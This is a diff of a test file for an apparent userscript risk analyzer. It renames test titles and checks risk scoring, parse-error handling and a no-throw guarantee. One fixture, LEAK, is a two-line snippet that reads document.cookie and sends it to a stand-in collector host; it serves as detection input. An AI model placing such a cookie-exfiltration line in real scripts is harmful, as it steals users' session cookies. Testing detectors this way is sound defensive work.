@@ -7,7 +7,7 @@ import { userscript } from "./testing/find-in.ts";
 const LEAK = "const c = document.cookie;\nfetch('https://collector.stranger.test/?c=' + c);";
 
 describe("analyze-script", () => {
-	test("a leak is red, with its place, its way and what to do", () => {
+	test("a leak is red, with place, data flow and advice", () => {
 		const result = analyzeScript({ code: userscript(["match https://shop.example/*"], LEAK) });
 		expect(result.risk_level).toBe("red");
 		expect(result.score).toBeLessThanOrEqual(39);
@@ -27,7 +27,7 @@ describe("analyze-script", () => {
 		expect(result.capabilities.offline).toBe(true);
 	});
 
-	test("what cannot be read is not rated, and says where", () => {
+	test("unreadable code is not rated, with the place of the error", () => {
 		const result = analyzeScript({ code: "ok();\nlet = = 2" });
 		expect(result).toMatchObject({ risk_level: "unrated", score: 0, vulnerabilities: [] });
 		expect(result.summary).toContain("Line 2");
@@ -54,7 +54,7 @@ describe("analyze-script", () => {
 		expect(analyzeScript({ code })).toEqual(analyzeScript({ code }));
 	});
 
-	test("never throws, and never answers green for what does not parse", () => {
+	test("never throws, and never rates unparsable code green", () => {
 		fc.assert(
 			fc.property(fc.oneof(fc.string(), fc.string({ unit: "binary" })), (code) => {
 				const result = analyzeScript({ code });
